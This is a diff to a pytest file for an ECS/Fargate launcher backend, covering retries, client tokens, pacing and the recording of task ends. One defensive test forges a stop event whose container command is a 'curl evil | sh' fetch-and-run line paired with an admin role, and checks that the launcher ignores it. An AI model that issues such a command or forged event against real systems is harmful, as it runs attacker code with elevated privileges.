@@ -1,11 +1,17 @@
-"""The ECS/Fargate backend against a real moto server, and its exact requests with botocore's Stubber."""
+"""The ECS/Fargate backend against a real moto server, and its exact requests with botocore's Stubber.
+
+moto's server runs in this process (ThreadedMotoServer), so that a test can make a task end as
+Fargate would (stop code, reasons, timestamps), which no ECS API call of a client can do.
+"""
 
 from __future__ import annotations
 
+import itertools
 import json
 import time
 import urllib.request
 from collections.abc import Iterator
+from datetime import UTC, datetime
 from pathlib import Path
 from typing import Any
 
@@ -17,11 +23,14 @@ from botocore.stub import Stubber
 from airlaunch.catalog import Catalog
 from airlaunch.config import LauncherSettings
 from airlaunch.launcher import handler
+from airlaunch.launcher.backends import ecs
 from airlaunch.launcher.backends.base import LaunchError
 from airlaunch.launcher.backends.ecs import EcsBackend, ecs_tags, fargate_size, started_by
+from airlaunch.launcher.platform_events import EcsTaskStateChange
 from airlaunch.launcher.service import Launcher
-from airlaunch.protocol import LaunchRequest, RunIdentity, StopReason, TaskState
-from tests.moto_server import moto_server
+from airlaunch.protocol import LaunchRequest, Overrides, RunIdentity, StopReason, TaskState
+from tests.aws_shapes import fixture, stopped_event
+from tests.moto_server import end_task_as_fargate, moto_in_process
 
 CATALOG = Catalog.load(Path(__file__).resolve().parents[2] / "tasks" / "catalog.yaml")
 REGION = "us-east-1"
@@ -30,11 +39,18 @@ FAMILY = f"{PREFIX}-task_one"
 CREDS = {"aws_access_key_id": "test", "aws_secret_access_key": "test", "region_name": REGION}
 
 
+ACCOUNT = "123456789012"  # moto's
+
+
 @pytest.fixture(scope="module")
-def moto_url(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
-    """A moto server of our own on a free loopback port, stopped after the module."""
-    with moto_server(tmp_path_factory.mktemp("moto") / "moto.log") as url:
+def moto_url() -> Iterator[str]:
+    """A moto server of our own, in this process, on a free loopback port, stopped after the module."""
+    with moto_in_process() as url:
         yield url
+
+
+def _platform_ends(task_arn: str, **attrs: Any) -> None:
+    end_task_as_fargate(task_arn, ACCOUNT, REGION, **attrs)
 
 
 def _set_task_transition(url: str, times: int) -> None:
@@ -274,14 +290,69 @@ def test_capacity_provider_replaces_the_launch_type() -> None:
     assert "launchType" not in params
 
 
-def test_run_task_failures_become_a_launch_error(stubbed: tuple[EcsBackend, Stubber]) -> None:
+@pytest.fixture
+def fake_clock(monkeypatch: pytest.MonkeyPatch) -> list[float]:
+    """The backend's retry pauses on a clock of the test's own: each pause moves it on, none waits."""
+    now = [0.0]
+    monkeypatch.setattr(ecs, "_clock", lambda: now[0])
+    monkeypatch.setattr(ecs, "_sleep", lambda seconds: now.__setitem__(0, now[0] + seconds))
+    return now
+
+
+RUN_TASK_ANSWERS = fixture("ecs-run-task-failures.json")
+
+
+def test_placement_failures_are_retried_within_the_launch_budget_then_left_to_the_caller(
+    stubbed: tuple[EcsBackend, Stubber], fake_clock: list[float]
+) -> None:
     backend, stubber = stubbed
-    failure = {"arn": "arn:aws:ecs:us-east-1:1:container-instance/x", "reason": "RESOURCE:MEMORY", "detail": "full"}
-    for _ in range(3):  # tried PLACEMENT_ATTEMPTS times within the launch, then left to the caller's retries
-        stubber.add_response("run_task", {"tasks": [], "failures": [failure]})
-    with pytest.raises(LaunchError, match=r"could not place task 'task_one': RESOURCE:MEMORY full") as failed:
+    for _ in range(40):  # more than the budget allows
+        stubber.add_response("run_task", RUN_TASK_ANSWERS["resource_memory"])
+    with pytest.raises(LaunchError, match=r"could not place task 'task_one': RESOURCE:MEMORY") as failed:
         backend.start(CATALOG.get("task_one"), _identity("fail"), {})
-    assert failed.value.retryable
+    assert failed.value.retryable  # Airflow's hook tries the launch again later
+    assert 0 < fake_clock[0] <= backend.settings.launch_budget_seconds
+    stubber._queue.clear()  # what the budget did not use
+
+
+@pytest.mark.parametrize("answer", ["capacity", "vcpu_quota"])
+def test_no_capacity_and_the_vcpu_quota_are_waited_out(
+    stubbed: tuple[EcsBackend, Stubber], fake_clock: list[float], answer: str
+) -> None:
+    """A new account's low Fargate vCPU quota (or no capacity just now) frees up as tasks end: retried,
+    not failed at once. (Only RESOURCE:, AGENT and Capacity were retried, and only 3 times.)"""
+    backend, stubber = stubbed
+    for _ in range(4):
+        stubber.add_response("run_task", RUN_TASK_ANSWERS[answer])
+    stubber.add_response("run_task", {"tasks": [_task("PROVISIONING")], "failures": []})
+    assert backend.start(CATALOG.get("task_one"), _identity(answer), {}).task_ref == _task("")["taskArn"]
+
+
+def test_throttling_is_retried_with_the_same_client_token(
+    stubbed: tuple[EcsBackend, Stubber], fake_clock: list[float]
+) -> None:
+    """A throttled or failed RunTask may have started the task: the retry keeps its token, so ECS answers
+    with that task instead of starting a second one."""
+    backend, stubber = stubbed
+    identity = _identity("throttled")
+    error = RUN_TASK_ANSWERS["throttling_error"]["Error"]
+    calls = _run_task_calls(backend)
+    for _ in range(3):
+        stubber.add_client_error("run_task", error["Code"], error["Message"], http_status_code=400)
+    stubber.add_response("run_task", {"tasks": [_task("PROVISIONING")], "failures": []})
+    backend.start(CATALOG.get("task_one"), identity, {})
+    tokens = [call["clientToken"] for call in calls]
+    assert tokens == [identity.digest] * 4
+
+
+def test_a_failure_that_will_not_pass_is_not_retried(
+    stubbed: tuple[EcsBackend, Stubber], fake_clock: list[float]
+) -> None:
+    backend, stubber = stubbed
+    stubber.add_response("run_task", RUN_TASK_ANSWERS["missing"])
+    with pytest.raises(LaunchError, match="MISSING") as failed:
+        backend.start(CATALOG.get("task_one"), _identity("missing"), {})
+    assert not failed.value.retryable and fake_clock[0] == 0
 
 
 def test_client_errors_become_a_launch_error(stubbed: tuple[EcsBackend, Stubber]) -> None:
@@ -406,11 +477,11 @@ def _status(aws: dict[str, Any], prefix: str) -> dict[str, Any]:
     return json.loads(aws["s3"].get_object(Bucket="airlaunch-ecs-test", Key=prefix + "status.json")["Body"].read())
 
 
-def _stopped_event(aws: dict[str, Any], task_ref: str, **change: Any) -> dict[str, Any]:
-    """The detail of ECS's "Task State Change" event for a task, as EventBridge delivers it."""
-    task = aws["ecs"].describe_tasks(cluster="airlaunch-test", tasks=[task_ref])["tasks"][0]
-    detail = json.loads(json.dumps(task, default=str))  # the event carries the task as JSON
-    return {**detail, "lastStatus": "STOPPED", **change}
+def _run_task_calls(backend: EcsBackend) -> list[dict[str, Any]]:
+    """Every RunTask request the backend's client sends from now on."""
+    calls: list[dict[str, Any]] = []
+    backend.client.meta.events.register("provide-client-params.ecs.RunTask", lambda params, **_: calls.append(params))
+    return calls
 
 
 def test_a_new_try_stops_the_earlier_one_and_records_why(backend: EcsBackend, aws: dict[str, Any]) -> None:
@@ -428,80 +499,170 @@ def test_a_new_try_stops_the_earlier_one_and_records_why(backend: EcsBackend, aw
     assert f"superseded by try 2-{TI_2} of the same task" in status["error"]
 
 
-def test_a_task_that_failed_to_start_is_started_again_then_fails_in_words(
+def test_an_event_of_the_documented_shape_records_the_end(
+    backend: EcsBackend, aws: dict[str, Any], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """AWS's own STOPPED event (ISO-string timestamps) through the Lambda handler: the launcher records the
+    OOM kill ECS reports and writes ecs.json on ECS's clock. (It raised AttributeError on a str startedAt.)"""
+    launcher = _launcher(backend, aws)
+    handle = launcher.launch(LaunchRequest(task="task_one", identity=_identity("documented", ti_id=TI_1)))
+    _platform_ends(
+        handle.task_ref,
+        stop_code="EssentialContainerExited",
+        stopped_reason="Essential container in task exited",
+        started_at=datetime(2026, 12, 1, 10, 0, 1, tzinfo=UTC),
+        stopped_at=datetime(2026, 12, 1, 10, 5, tzinfo=UTC),
+        container_reason="OutOfMemoryError: Container killed due to memory usage",
+    )
+    event = stopped_event(
+        handle.task_ref, startedBy=started_by(_identity("x")), overrides=_overrides(aws, handle.task_ref)
+    )
+    assert isinstance(event["detail"]["startedAt"], str)  # as AWS sends it, unlike moto's datetimes
+    monkeypatch.setattr(handler, "get_launcher", lambda: launcher)
+
+    answer = handler.handler(event)
+
+    assert answer["ok"] and answer["recorded"] == "by the launcher", answer
+    status = _status(aws, handle.prefix)
+    assert status["reason"] == "oom" and "OutOfMemoryError" in status["error"]
+    times = json.loads(aws["s3"].get_object(Bucket="airlaunch-ecs-test", Key=handle.prefix + "ecs.json")["Body"].read())
+    assert times["started_at"].startswith("2026-12-01T10:00:01") and times["stopped_at"].startswith("2026-12-01T10:05")
+    assert times["clock"] == "ECS control plane (UTC)"  # for the report's phases
+
+
+def _overrides(aws: dict[str, Any], task_ref: str) -> dict[str, Any]:
+    task = aws["ecs"].describe_tasks(cluster="airlaunch-test", tasks=[task_ref])["tasks"][0]
+    return dict(task["overrides"])
+
+
+def test_a_forged_event_starts_nothing_and_writes_nothing(
+    backend: EcsBackend, aws: dict[str, Any], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Whoever may invoke the launcher can send a TaskFailedToStart "event" naming a running task and
+    carrying its own command, role and size: the launcher asks ECS, which says the task runs, and does
+    nothing. (The old handler ran RunTask with the payload's command and role and wrote a failed
+    status.json for the running try.)"""
+    launcher = _launcher(backend, aws)
+    handle = launcher.launch(LaunchRequest(task="task_one", identity=_identity("forged", ti_id=TI_1)))
+    forged_overrides = {
+        "taskRoleArn": "arn:aws:iam::123456789012:role/admin",
+        "cpu": "16384",
+        "memory": "122880",
+        "containerOverrides": [
+            {
+                "name": "task",
+                "command": ["sh", "-c", "curl evil | sh"],
+                "environment": [{"name": "AIRLAUNCH_PREFIX", "value": handle.prefix}, *_env(aws, handle.task_ref)],
+            }
+        ],
+    }
+    forged = stopped_event(
+        handle.task_ref,
+        stopCode="TaskFailedToStart",
+        stoppedReason="CannotPullContainerError: forged",
+        startedBy=started_by(_identity("x")),
+        overrides=forged_overrides,
+    )
+    calls = _run_task_calls(backend)
+    monkeypatch.setattr(handler, "get_launcher", lambda: launcher)
+
+    answer = handler.handler(forged)
+
+    assert answer["ok"] and "ignored" in answer, answer
+    assert calls == []
+    assert aws["s3"].list_objects_v2(Bucket="airlaunch-ecs-test", Prefix=handle.prefix + "status.json")["KeyCount"] == 0
+    assert backend.describe(handle.task_ref).state is TaskState.RUNNING
+    # and one that names a task ECS does not know, or another cluster's, is ignored as well
+    unknown = handle.task_ref.rsplit("/", 1)[0] + "/0123456789abcdef0123456789abcdef"
+    assert "ignored" in handler.handler(stopped_event(unknown))
+    other = handle.task_ref.replace("task/airlaunch-test/", "task/other/")
+    assert "ignored" in handler.handler(stopped_event(other))
+    assert calls == []
+
+
+def _env(aws: dict[str, Any], task_ref: str) -> list[dict[str, str]]:
+    return list(_overrides(aws, task_ref)["containerOverrides"][0]["environment"])
+
+
+def test_a_task_that_failed_to_start_is_started_again_from_the_catalog_then_fails_in_words(
     backend: EcsBackend, aws: dict[str, Any]
 ) -> None:
     launcher = _launcher(backend, aws)
     identity = _identity("pull", ti_id=TI_1)
-    handle = launcher.launch(LaunchRequest(task="task_one", identity=identity))
-    pull = {"stopCode": "TaskFailedToStart", "stoppedReason": "CannotPullContainerError: pull access denied"}
+    handle = launcher.launch(
+        LaunchRequest(task="task_one", identity=identity, overrides=Overrides(cpu=1.0, memory_mib=2048))
+    )
+    pull = {"stop_code": "TaskFailedToStart", "stopped_reason": "CannotPullContainerError: pull access denied"}
+    calls = _run_task_calls(backend)
 
     task_ref, restarts = handle.task_ref, []
-    for _ in range(2):  # starts 2 and 3
-        backend.stop(task_ref, "simulated failed start")
-        answer = launcher.task_stopped(_stopped_event(aws, task_ref, **pull))
+    for start in (2, 3):
+        _platform_ends(task_ref, **pull)
+        event = stopped_event(task_ref, overrides={"containerOverrides": [{"name": "task", "command": ["sh"]}]})
+        answer = launcher.task_stopped(EcsTaskStateChange.parse(event))
+        assert launcher.task_stopped(EcsTaskStateChange.parse(event)) == answer  # EventBridge delivers at least once
         task_ref = answer["started_again"]
         restarts.append(task_ref)
-        env = aws["ecs"].describe_tasks(cluster="airlaunch-test", tasks=[task_ref])["tasks"][0]["overrides"]
-        assert {"name": "AIRLAUNCH_START_ATTEMPT", "value": str(len(restarts) + 1)} in env["containerOverrides"][0][
+        override = _overrides(aws, task_ref)
+        assert {"name": "AIRLAUNCH_START_ATTEMPT", "value": str(start)} in override["containerOverrides"][0][
             "environment"
         ]
+        assert override["containerOverrides"][0]["command"] == CATALOG.get("task_one").runtime_args()
+        assert (override["cpu"], override["memory"]) == ("1024", "2048")  # the launch's own overrides
         # the Airflow side still watches the first handle: it reads "running", not a failure
         assert launcher.describe(handle).state is TaskState.RUNNING
-    backend.stop(task_ref, "simulated failed start")
-    answer = launcher.task_stopped(_stopped_event(aws, task_ref, **pull))  # the third failed start: the try fails
+    _platform_ends(task_ref, **pull)
+    answer = launcher.task_stopped(
+        EcsTaskStateChange.parse(stopped_event(task_ref))
+    )  # the third failed start: it fails
 
     assert answer["recorded"] == "by the launcher" and len(set(restarts)) == 2
+    assert len(calls) == 2 and all(c["taskDefinition"] == FAMILY and "taskRoleArn" not in c["overrides"] for c in calls)
     status = _status(aws, handle.prefix)
     assert status["state"] == "failed" and status["reason"] == "platform"
     assert "CannotPullContainerError" in status["error"] and "TaskFailedToStart" in status["error"]
 
 
-def test_a_spot_interruption_is_recorded_in_words(
-    backend: EcsBackend, aws: dict[str, Any], monkeypatch: pytest.MonkeyPatch
-) -> None:
+def test_a_spot_interruption_is_recorded_in_words(backend: EcsBackend, aws: dict[str, Any]) -> None:
     launcher = _launcher(backend, aws)
     handle = launcher.launch(LaunchRequest(task="task_one", identity=_identity("spot", ti_id=TI_1)))
-    backend.stop(handle.task_ref, "simulated")
-    event = {
-        "source": "aws.ecs",
-        "detail-type": "ECS Task State Change",
-        "detail": _stopped_event(
-            aws,
-            handle.task_ref,
-            stopCode="SpotInterruption",
-            stoppedReason="Spot interrupted",
-            createdAt="2026-12-01T10:00:00.000Z",
-            stoppedAt="2026-12-01T10:05:00.000Z",
-        ),
-    }
-    monkeypatch.setattr(handler, "get_launcher", lambda: launcher)
-    answer = handler.handler(event)  # EventBridge delivers the event to the launcher as it is
-    assert answer["ok"] and answer["recorded"] == "by the launcher"
-    times = json.loads(aws["s3"].get_object(Bucket="airlaunch-ecs-test", Key=handle.prefix + "ecs.json")["Body"].read())
-    assert times["created_at"] == "2026-12-01T10:00:00.000Z" and times["stopped_at"] == "2026-12-01T10:05:00.000Z"
-    assert times["clock"] == "ECS control plane (UTC)"  # for the report's phases
+    _platform_ends(handle.task_ref, stop_code="SpotInterruption", stopped_reason="Your Spot Task was interrupted.")
+    answer = launcher.task_stopped(EcsTaskStateChange.parse(stopped_event(handle.task_ref)))
+    assert answer["recorded"] == "by the launcher"
     status = _status(aws, handle.prefix)
     assert status["reason"] == "platform" and "Fargate Spot reclaimed its capacity" in status["error"]
-    assert launcher.task_stopped({"lastStatus": "RUNNING", "startedBy": "al-x"}) == {
-        "ignored": "not the end of an airlaunch task"
-    }
 
 
-def test_a_placement_failure_is_tried_again_with_a_new_client_token(stubbed: tuple[EcsBackend, Stubber]) -> None:
+def test_a_placement_failure_is_tried_again_with_a_new_client_token(
+    stubbed: tuple[EcsBackend, Stubber], fake_clock: list[float]
+) -> None:
     backend, stubber = stubbed
     identity = RunIdentity(dag_id="d", run_id="r", task_id="t")
-    params = backend.run_task_params(CATALOG.get("task_one"), identity, {})
-    no_memory = {"tasks": [], "failures": [{"reason": "RESOURCE:MEMORY", "arn": "arn:x"}]}
-    stubber.add_response("run_task", no_memory, params)
-    tokens = []
-
-    def capture(**kwargs: Any) -> None:
-        tokens.append(kwargs["params"]["clientToken"])
-
-    backend.client.meta.events.register("provide-client-params.ecs.RunTask", capture)
+    no_memory = RUN_TASK_ANSWERS["resource_memory"]
+    calls = _run_task_calls(backend)
+    stubber.add_response("run_task", no_memory)
     stubber.add_response("run_task", no_memory)
     stubber.add_response("run_task", {"tasks": [_task("PROVISIONING")], "failures": []})
     started = backend.start(CATALOG.get("task_one"), identity, {})
     assert started.task_ref == _task("")["taskArn"]
+    tokens = [call["clientToken"] for call in calls]
     assert tokens[0] == identity.digest and len(set(tokens)) == 3  # never the failed attempt's token again
+
+
+def test_each_environment_spaces_its_run_task_calls_so_that_all_keep_within_the_launch_rate(
+    stubbed: tuple[EcsBackend, Stubber], fake_clock: list[float]
+) -> None:
+    """At most LauncherConcurrency environments run at once, each one RunTask (retries included) every
+    concurrency / rate seconds: together at most the rate, however many launches Airflow sends."""
+    backend, stubber = stubbed
+    assert backend._pacer.interval == 10 / 20  # the defaults: 10 environments, Fargate's 20 launches a second
+    moments: list[float] = []
+    backend.client.meta.events.register("provide-client-params.ecs.RunTask", lambda **_: moments.append(fake_clock[0]))
+    error = RUN_TASK_ANSWERS["throttling_error"]["Error"]
+    stubber.add_client_error("run_task", error["Code"], error["Message"], http_status_code=400)
+    for _ in range(3):
+        stubber.add_response("run_task", {"tasks": [_task("PROVISIONING")], "failures": []})
+    for n in range(3):
+        backend.start(CATALOG.get("task_one"), _identity(f"paced-{n}"), {})
+    gaps = [later - earlier for earlier, later in itertools.pairwise(moments)]
+    assert len(moments) == 4 and all(gap >= backend._pacer.interval - 1e-9 for gap in gaps), moments
